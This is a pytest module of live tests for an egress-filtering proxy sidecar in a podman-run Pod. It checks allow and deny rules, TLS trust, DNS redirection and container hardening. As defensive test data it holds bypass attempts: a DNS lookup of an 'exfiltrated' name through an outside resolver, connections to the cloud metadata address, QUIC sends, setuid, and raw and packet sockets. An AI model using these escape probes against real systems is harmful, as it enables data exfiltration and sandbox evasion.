"""
A Pod as `sidecar render` prints it, classic form, run by podman: bootstrap, netfilter, sidecar, fence check, workload.

The workload's programs know nothing of a proxy. What podman 4.3 can't do is left out: probes (it wants systemd), and
mounts of a single file of an emptyDir.
"""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import pytest
from ruamel.yaml import YAML

from tests.heavy.images import Images
from tests.heavy.internet import ADDRESSES, Node, nodes
from tests.live.bypass import places
from tests.live.sidecars import Line, check_lines, until

pytestmark = [pytest.mark.live, pytest.mark.root, pytest.mark.heavy, pytest.mark.timeout(1500)]

ALLOWED, DENIED = places.ALLOWED, places.DENIED
POLICY: Final = f'version: 1\nrules: [{{name: api, allow: ["{ALLOWED}"]}}]\n{ADDRESSES}'
CONFIG: Final = """
sidecar: {systemBundles: [], runArguments: ["--upstream-ca", "/etc/egress/roots/upstream.pem"]}
"""
NETWORK_NAME: Final = f"egress-test-{os.getpid()}"
NETWORK: Final = ("--ipv6", "--subnet", "10.78.0.0/24", "--subnet", "fd78::/64")

JAVA: Final = """
import java.net.URI; import java.net.http.*;
public class Get {
  public static void main(String[] a) throws Exception {
    var answer = HttpClient.newHttpClient().send(
        HttpRequest.newBuilder(URI.create(a[0])).build(), HttpResponse.BodyHandlers.ofString());
    System.out.println(answer.statusCode() + " " + answer.body());
  }
}
"""
NODE: Final = "fetch(process.argv[1]).then(async r => console.log(r.status, await r.text()))"
COMPILE: Final = "set -e; cat > /tmp/Get.java; javac -d /tmp /tmp/Get.java"
TRUSTING: Final = {
    "curl": ["curl", "-sS", "-w", "\n%{http_code}", "URL"],
    "node": ["node", "-e", NODE, "URL"],
    "java": ["java", "-cp", "/tmp", "Get", "URL"],
}
_UNSET: Final = ["env", "-u", "CURL_CA_BUNDLE", "-u", "SSL_CERT_FILE", "-u", "NODE_EXTRA_CA_CERTS"]
_UNSET_JAVA: Final = ["env", "-u", "JAVA_TOOL_OPTIONS"]
DISTRUSTING: Final = {
    "curl": [*_UNSET, "curl", "-sS", "URL"],
    "node": [*_UNSET, "node", "-e", NODE, "URL"],
    "java": [*_UNSET_JAVA, "java", "-cp", "/tmp", "Get", "URL"],
}

Objects = list[dict[str, Any]]


@dataclass
class Running:
    """The Pod, running."""

    images: Images
    node: Node

    def podman(self, *arguments: str, **options: Any) -> subprocess.CompletedProcess[str]:
        return self.images.run(*arguments, namespace=self.node.namespace, **options)

    def work(self, *command: str, input: str | None = None, check: bool = False) -> subprocess.CompletedProcess[str]:
        """Run a program in the workload's container."""
        return self.podman("exec", "-i", "agent-workload", *command, input=input or "", check=check)

    def python(self, code: str, *arguments: str) -> str:
        """What Python *code* prints in the workload's container."""
        result = self.work("python3", "-c", code, *arguments)
        return result.stdout.strip() or result.stderr.strip().splitlines()[-1]

    def events(self, name: str | None = None, **fields: object) -> list[Line]:
        """What the sidecar's container has written to its standard output."""
        lines = self.podman("logs", "agent-egress-sidecar").stdout.splitlines()
        found = [json.loads(line) for line in lines]
        return [
            line
            for line in found
            if name in (None, line["event"]) and all(line.get(key) == value for key, value in fields.items())
        ]

    def event(self, name: str, **fields: object) -> Line:
        return until(lambda: self.events(name, **fields), f"{name} {fields}")[-1]


def rendered(folder: Path, images: Images, root: Path) -> str:
    """The manifests, with what the tests' Internet needs: its resolver, and its root for the sidecar."""
    plain = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "agent"},
        "spec": {
            "restartPolicy": "Never",
            "dnsConfig": {"nameservers": [places.RESOLVER_V4]},
            "containers": [
                {
                    "name": "workload",
                    "image": images.workload,
                    "command": ["sleep", "infinity"],
                    "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
                }
            ],
        },
    }
    yaml, files = YAML(typ="safe"), {"policy.yaml": POLICY, "config.yaml": CONFIG}
    for name, text in files.items():
        (folder / name).write_text(text)
    with (folder / "plain.yaml").open("w") as file:
        yaml.dump(plain, file)
    command = [sys.executable, "-m", "sidecar", "render", "--session", "demo", "--form", "classic", "--no-probes"]
    command += ["--policy", str(folder / "policy.yaml"), "--config", str(folder / "config.yaml")]
    command += ["--pod", str(folder / "plain.yaml"), "--image", images.sidecar, "--only", "ConfigMap", "--only", "Pod"]
    result = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 0, result.stderr
    objects: Objects = list(yaml.load_all(result.stdout))
    pod = next(one for one in objects if one["kind"] == "Pod")
    pod["spec"]["volumes"].append({"name": "roots", "configMap": {"name": "roots"}})
    sidecar = next(one for one in pod["spec"]["containers"] if one["name"] == "egress-sidecar")
    sidecar["volumeMounts"].append({"name": "roots", "mountPath": "/etc/egress/roots", "readOnly": True})
    roots = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "roots"}}
    objects.insert(0, {**roots, "data": {"upstream.pem": root.read_text()}})
    (folder / "pod.yaml").write_text("---\n".join(json.dumps(one) + "\n" for one in objects))
    return str(folder / "pod.yaml")


@pytest.fixture(scope="module")
def pod(images: Images, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    folder = tmp_path_factory.mktemp("pod")
    with nodes(folder) as node:
        running = Running(images, node)
        manifests = rendered(folder, images, node.root)
        running.podman("network", "create", *NETWORK, NETWORK_NAME)
        try:
            running.podman("play", "kube", "--network", NETWORK_NAME, manifests, timeout=120)
            running.work("sh", "-c", COMPILE, input=JAVA, check=True)
            yield running
        finally:
            running.podman("pod", "rm", "--force", "--time", "0", "agent", check=False)
            running.podman("volume", "prune", "--force", check=False)
            running.podman("network", "rm", "--force", NETWORK_NAME, check=False)
            shutil.rmtree(Path("/var/lib/cni/networks", NETWORK_NAME), ignore_errors=True)  # addresses given out


def asked(command: Sequence[str], url: str) -> list[str]:
    return [url if word == "URL" else word for word in command]


def test_the_fence_is_proven_and_the_sidecar_is_ready(pod: Running) -> None:
    def ready() -> bool:
        answer = pod.work("curl", "-s", "http://127.0.0.1:14120/readyz").stdout
        return answer.startswith("{") and json.loads(answer)["reasons"] == []

    until(lambda: ready() or None, "readiness")
    said = pod.podman("logs", "agent-egress-fence-check").stdout
    assert "the fence holds" in said
    assert "no IPv6 here" not in said, "the pod has both families"


@pytest.mark.parametrize("client", TRUSTING)
def test_an_allowed_host_answers(pod: Running, client: str) -> None:
    result = pod.work(*asked(TRUSTING[client], f"https://{ALLOWED}/{client}"))

    assert result.returncode == 0, result.stderr
    assert "internet" in result.stdout
    assert "200" in result.stdout
    assert pod.event("request_allowed", host=ALLOWED, path=f"/{client}")["rule"] == "rules[0] 'api'"


@pytest.mark.parametrize("client", TRUSTING)
def test_a_denied_host_is_answered_with_the_reason(pod: Running, client: str) -> None:
    result = pod.work(*asked(TRUSTING[client], f"https://{DENIED}/{client}"))

    assert "403" in result.stdout, result.stderr
    assert "default_deny" in result.stdout
    assert pod.event("request_denied", host=DENIED, path=f"/{client}")["reason"] == "default_deny"


@pytest.mark.parametrize("client", DISTRUSTING)
def test_a_client_without_the_bundle_is_told_apart(pod: Running, client: str) -> None:
    before = len(pod.events("tls_handshake_failed", reason="tls_client_rejected_ca"))

    result = pod.work(*asked(DISTRUSTING[client], f"https://{ALLOWED}/"))

    assert result.returncode != 0
    assert "internet" not in result.stdout
    until(
        lambda: len(pod.events("tls_handshake_failed", reason="tls_client_rejected_ca", host=ALLOWED)) > before,
        "tls_client_rejected_ca",
    )


def test_names_get_addresses_of_the_sidecar_alone(pod: Running) -> None:
    code = """
import socket, sys
print(*sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443)}))
"""
    for name in (ALLOWED, DENIED):
        addresses = pod.python(code, name).split()

        assert addresses
        assert all(address.startswith(("198.18.", "198.19.", "fdd4:b501:b37d:")) for address in addresses), addresses


def test_another_resolver_is_not_reached(pod: Running) -> None:
    code = """
const r = new (require('dns').Resolver)(); r.setServers([process.argv[1]])
r.resolve4(process.argv[2], (e, a) => console.log(e ? e.code : a[0]))
"""
    answer = pod.work("node", "-e", code, places.V4, "secret.exfiltrated.example.com").stdout

    assert answer.startswith(("198.18.", "198.19."))
    assert pod.node.astray() == []


CONNECT: Final = """
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5); s.sendall(b"hello\\r\\n\\r\\n")
print(s.recv(100))
"""
SEND: Final = """
import socket, sys
socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM).sendto(
    b"x", (sys.argv[1], int(sys.argv[2])))
print("sent")
"""
BECOME: Final = "import os; os.setuid(14137); print('became')"
RAW: Final = "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('made')"
PACKET: Final = "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('made')"


@pytest.mark.parametrize(
    ("code", "arguments", "seen"),
    [
        pytest.param(CONNECT, (places.V4, "25"), "b''", id="raw TCP to an IPv4 address"),
        pytest.param(CONNECT, (places.V6, "22"), "b''", id="raw TCP to an IPv6 address"),
        pytest.param(CONNECT, ("169.254.169.254", "80"), "b''", id="the metadata address"),
        pytest.param(SEND, (places.V4, "443"), "Operation not permitted", id="QUIC by IPv4"),
        pytest.param(SEND, (places.V6, "443"), "Operation not permitted", id="QUIC by IPv6"),
        pytest.param(CONNECT, ("127.0.0.1", "14102"), "Connection refused", id="the control port"),
        pytest.param(BECOME, (), "Operation not permitted", id="root becomes the sidecar's user"),
        pytest.param(RAW, (), "Operation not permitted", id="a raw socket"),
        pytest.param(PACKET, (), "Operation not permitted", id="a packet socket"),
    ],
)
def test_there_is_no_way_around(pod: Running, code: str, arguments: tuple[str, ...], seen: str) -> None:
    said = pod.python(code, *arguments)

    assert seen in said, said
    assert pod.node.astray() == []


def test_the_address_of_an_allowed_host_is_not_the_host(pod: Running) -> None:
    said = pod.work("curl", "-sk", f"https://{places.ALLOWED_V4}/", "-H", f"Host: {ALLOWED}").stdout

    assert "internet" not in said
    assert '"reason":"identity_mismatch"' in said


@pytest.mark.parametrize("path", ["/run/egress/ca", "/run/egress/control", "/etc/egress/policy", "/etc/egress/ca"])
def test_key_policy_and_control_socket_are_out_of_the_workloads_reach(pod: Running, path: str) -> None:
    assert pod.work("ls", path).returncode != 0


def test_the_workload_sees_a_bundle_without_a_key_and_cannot_change_it(pod: Running) -> None:
    assert "PRIVATE KEY" not in pod.work("sh", "-c", "grep -r 'PRIVATE KEY' /etc/egress/trust").stdout
    assert pod.work("sh", "-c", "echo x >> /etc/egress/trust/bundle.pem").returncode != 0
    assert "egress" not in pod.work("sh", "-c", "cat /proc/[0-9]*/cmdline").stdout.replace("/etc/egress", "")


def test_the_sidecar_has_no_capability_no_root_and_nothing_to_write_to(pod: Running) -> None:
    code = """
import os, pathlib
status = dict(line.split(':\\t', 1) for line in open('/proc/self/status').read().splitlines() if ':\\t' in line)
print(status['Uid'].split()[0], int(status['CapEff'], 16), int(status['CapBnd'], 16), status['NoNewPrivs'])
try: pathlib.Path('/x').write_text(''); print('written')
except OSError as e: print(e.strerror)
"""
    said = pod.podman("exec", "agent-egress-sidecar", "/opt/egress/bin/python", "-c", code).stdout

    assert said.splitlines() == ["14137 0 0 1", "Read-only file system"]


def test_the_events_on_standard_output_are_whole(pod: Running) -> None:
    pod.podman("stop", "--time", "20", "agent-egress-sidecar", timeout=60)

    lines = pod.events()
    check_lines(lines)
    assert {line["session"] for line in lines} == {"demo"}
